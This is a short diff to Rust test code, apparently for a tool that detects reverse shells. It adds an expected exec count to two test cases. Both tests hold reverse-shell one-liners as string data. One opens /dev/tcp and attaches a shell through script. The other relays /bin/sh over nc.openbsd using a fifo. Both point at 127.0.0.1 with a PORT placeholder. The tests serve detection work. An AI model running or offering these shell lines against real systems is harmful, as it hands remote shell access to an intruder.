@@ -89,7 +89,7 @@ fn script_holds_the_socket() {
     require!("bash", "script");
     Daemon::shared();
     let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; exec script -q -c /bin/sh /dev/null <&5 >&5 2>&5";
-    let expected = Relayed { row: 1, args: &["/bin/sh"], kind: "direct", ..Relayed::default() };
+    let expected = Relayed { row: 1, args: &["/bin/sh"], kind: "direct", execs: 2, ..Relayed::default() };
     start("/bin/bash", &["-c", line], &expected);
 }
 
@@ -102,6 +102,7 @@ fn script_behind_netcat() {
         "cd $(mktemp -d); mkfifo f; script -q -c /bin/sh /dev/null <f 2>&1 | nc.openbsd 127.0.0.1 PORT >f";
     let expected = Relayed {
         args: &["/bin/sh"],
+        execs: 2,
         hops: &["sh pts", "script ptmx", "script pipe", "nc.openbsd pipe", "nc.openbsd socket"],
         ..Relayed::default()
     };
